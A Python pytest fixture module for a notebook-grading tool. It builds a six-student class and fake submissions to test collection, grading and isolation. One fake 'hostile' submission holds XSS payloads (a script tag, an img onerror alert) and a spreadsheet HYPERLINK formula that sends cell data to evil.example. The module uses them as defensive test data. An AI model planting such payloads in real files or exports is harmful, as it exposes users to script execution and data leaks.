"""A class of six to which the tiny exercise was handed out, and the files that its students might hand in."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from functools import cache
from pathlib import Path

import nbformat
import pytest

from nevbook.curriculum import read_curriculum
from nevbook.grading.classes.enrol import enrol
from nevbook.grading.classes.roster import Student, write_roster
from nevbook.grading.classes.school_class import SchoolClass
from nevbook.grading.exercises.handout import hand_out
from nevbook.grading.intake.collect import collect
from nevbook.grading.outcome.standing import standings
from nevbook.grading.running.batch import grade
from nevbook.grading.running.gradebook import read_gradebook
from nevbook.grading.running.plain import STUDENTS_TRUSTED
from nevbook.grading.running.session import ISOLATED
from nevbook.grading.sandbox.probe import capabilities
from nevlab.jobcard import car_seed

TRUSTED = not capabilities().complete
"""Students' code is isolated wherever this machine can do it."""
ISOLATION = STUDENTS_TRUSTED if TRUSTED else ISOLATED
TINY = Path(__file__).parent / "data"
EX = "tiny"
CODE = "tiny-1"

STUDENTS = (
    Student("20240001", "张三"),
    Student("20240002", "李四"),
    Student("20240003", "张伟"),
    Student("20240004", "张伟"),
    Student("20240005", "Anna Maria Weber"),
    Student("20240006", "欧阳娜娜"),
)


@cache
def _made(folder: Path) -> Path:
    folder.mkdir()
    write_roster(folder / "roster.csv", STUDENTS)
    school_class = enrol(CODE, folder / "roster.csv", TINY, language="zh", folder=folder / CODE).school_class
    return hand_out(school_class, read_curriculum(TINY)[0].exercises[EX]).school_class.paths.folder


def made_class(base: Path, folder: Path) -> SchoolClass:
    """Give a new class to which the exercise was handed out; nbgrader needs seconds to make one, so it is a copy.

    `base` is where the original is kept: pytest's base folder for temporary files.
    """
    return SchoolClass.open(shutil.copytree(_made(base / "made"), folder / "class"))


@pytest.fixture
def school_class(tmp_path_factory, tmp_path) -> SchoolClass:
    """Give a class of one's own."""
    return made_class(tmp_path_factory.getbasetemp(), tmp_path)


def release(school_class: SchoolClass):
    """Give what was handed out, as a notebook."""
    return nbformat.read(school_class.paths.release_notebook(EX), as_version=4)


def worked(school_class: SchoolClass, **answers: str):
    """Give the notebook of a student who typed these answers into their cells."""
    notebook = release(school_class)
    for cell in notebook.cells:
        if cell.id in answers:
            cell.source = answers.pop(cell.id)
    assert not answers
    return notebook


def as_bytes(notebook) -> bytes:
    """Give a notebook's file, valid or not."""
    return json.dumps(notebook, ensure_ascii=False).encode()


def record(number: str = "20240001", class_code: str = CODE, exercise: str = EX, **entered: object) -> bytes:
    """Give a job card's record."""
    events = [
        {"event": "opened", "format": 1, "nevlab": "0.1.0", "exercise": exercise, "class": class_code, "language": "zh"}
    ]
    events += [{"event": "student", "number": number}] if number else []
    events += [{"event": "entered", "field": field, "value": value} for field, value in entered.items()]
    lines = [
        json.dumps({"n": n, "at": "2026-11-21T12:00:00Z", **event}, ensure_ascii=False) + "\n"
        for n, event in enumerate(events, 1)
    ]
    return "".join(lines).encode()


class GbkName(zipfile.ZipInfo):
    """A name as Chinese Windows writes it: in GBK, without the flag for UTF-8."""

    def _encodeFilenameFlags(self):
        return self.filename.encode("gbk"), self.flag_bits & ~0x800


class UnflaggedName(zipfile.ZipInfo):
    """A name as macOS writes it: in UTF-8, without the flag for it."""

    def _encodeFilenameFlags(self):
        return self.filename.encode("utf-8"), self.flag_bits & ~0x800


def packed(files: dict[str, bytes] | list, kind: type[zipfile.ZipInfo] = zipfile.ZipInfo) -> bytes:
    """Pack files; a list of (name or ZipInfo, data) may hold a name twice."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items() if isinstance(files, dict) else files:
            info = name if isinstance(name, zipfile.ZipInfo) else kind(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return data.getvalue()


def placed(path: Path, data: bytes) -> Path:
    """Write a file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def codes(problems) -> list[str]:
    """Give the problems' codes."""
    return [found.code for found in problems]


def submitted(school_class: SchoolClass, number: str):
    """Give the submission that would be graded, as id → source."""
    path = school_class.paths.submitted(number, EX) / f"{EX}.ipynb"
    return {cell.id: cell.source for cell in nbformat.read(path, as_version=4).cells}


RIGHT, PARTLY, FAILING, HOSTILE, TWICE, EMPTY = (student.number for student in STUDENTS)
ENTRY = "answers = card.answers(required_ohm=required_ohm)"
SCRIPT = "<script>alert('gotcha')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
_HOSTILE_CODE = f"""
from IPython.display import HTML, Javascript, display
display(HTML("{SCRIPT}<img src=x onerror=alert(1)>"), Javascript("alert(2)"))
print("{SCRIPT}")

class Chatty(dict):
    def __getitem__(self, key):
        print("\\x1b[31m{SCRIPT}")
        return super().__getitem__(key)

answers = Chatty(answers)
"""


def asked_ohm(number: str) -> int:
    """Work out the right answer by the exercise's own rule: 100 Ω for each volt of the student's own car."""
    return 100 * (300 + car_seed(CODE, number, EX) % 100)


def _hand_in_all(school_class: SchoolClass, folder: Path) -> None:
    def notebook(text: str, **more: str) -> bytes:
        return as_bytes(worked(school_class, required=f"required_ohm = {text}\n{ENTRY}", **more))

    twice = worked(school_class, required="required_ohm = 1")
    position = next(index for index, cell in enumerate(twice.cells) if cell.id == "required")
    twice.cells.insert(position, dict(twice.cells[position], id="copy", source="required_ohm = 2"))
    notebooks = {
        RIGHT: notebook("None"),
        PARTLY: notebook(f"{asked_ohm(PARTLY)} / 1000", reason="typed below\n\nbecause of U/R"),
        FAILING: notebook("measured_ohm"),
        HOSTILE: notebook(f"{asked_ohm(HOSTILE)}\n{ENTRY}\n{_HOSTILE_CODE}#", reason=FORMULA + SCRIPT),
        TWICE: as_bytes(twice),
    }
    entered = {RIGHT: {"required_ohm": asked_ohm(RIGHT), "reason": "U/R"}}
    for number, data in notebooks.items():
        placed(folder / number / f"{EX}.ipynb", data)
        placed(folder / number / f"{EX}.jobcard.jsonl", record(number, **entered.get(number, {})))
    placed(folder / EMPTY / "report.docx", b"no notebook")


@cache
def _graded(base: Path) -> Path:
    school_class = made_class(base, base / "graded")
    _hand_in_all(school_class, base / "graded" / "in")
    collect(school_class, EX, base / "graded" / "in")
    grade(school_class, EX, trust_students=TRUSTED)
    return school_class.paths.folder


@pytest.fixture
def graded_class(tmp_path_factory, tmp_path) -> SchoolClass:
    """Give a copy of a class whose work was graded: kernels need seconds, so it is done once."""
    return SchoolClass.open(shutil.copytree(_graded(tmp_path_factory.getbasetemp()), tmp_path / "class"))


def by_number(school_class: SchoolClass):
    """Give the standings by the students' numbers."""
    return {found.student.number: found for found in standings(school_class, EX)}


def handed_in_right(school_class: SchoolClass, folder: Path, pause_s: float = 0.0) -> None:
    """Take in a right answer of each student; the cell with it works for so many seconds."""
    for student in STUDENTS:
        work = f"import time\nuntil = time.process_time() + {pause_s}\nwhile time.process_time() < until:\n    pass\n"
        answer = f"{work}required_ohm = {asked_ohm(student.number)}\n{ENTRY}"
        placed(folder / student.number / f"{EX}.ipynb", as_bytes(worked(school_class, required=answer)))
    collect(school_class, EX, folder)


def marks(school_class: SchoolClass) -> dict[str, dict[str, tuple[float | None, float | None, bool]]]:
    """Give all that the gradebook holds: student → cell → automatic and manual points, and whether it is open."""
    return {
        number: {name: (score.automatic, score.manual, score.is_open) for name, score in held.scores.items()}
        for number, held in read_gradebook(school_class.paths, EX).items()
    }
